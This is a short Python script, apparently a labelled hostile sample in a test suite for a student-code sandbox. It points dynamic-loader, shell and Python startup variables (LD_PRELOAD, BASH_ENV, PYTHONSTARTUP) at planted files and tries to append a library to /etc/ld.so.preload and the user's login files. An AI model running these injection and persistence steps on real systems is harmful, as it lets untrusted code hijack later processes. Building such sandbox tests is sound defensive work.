# where: first
# kind: harms
# does: Processes that are started later are told to load the student's library and modules first.
import os
import subprocess
import sys

folder = os.getcwd()
os.environ |= {"LD_PRELOAD": f"{folder}/owned.so", "PYTHONSTARTUP": f"{folder}/owned.py", "PYTHONPATH": folder}
os.environ |= {"BASH_ENV": f"{folder}/owned.sh", "JUPYTER_CONFIG_DIR": folder, "PYTHONINSPECT": "1"}
for path in ("/etc/ld.so.preload", "@HOME@/.profile", "@HOME@/.pam_environment"):
    try:
        with open(path, "a") as file:
            file.write(f"{folder}/owned.so\n")
    except Exception as error:
        print(error)
print(subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True))
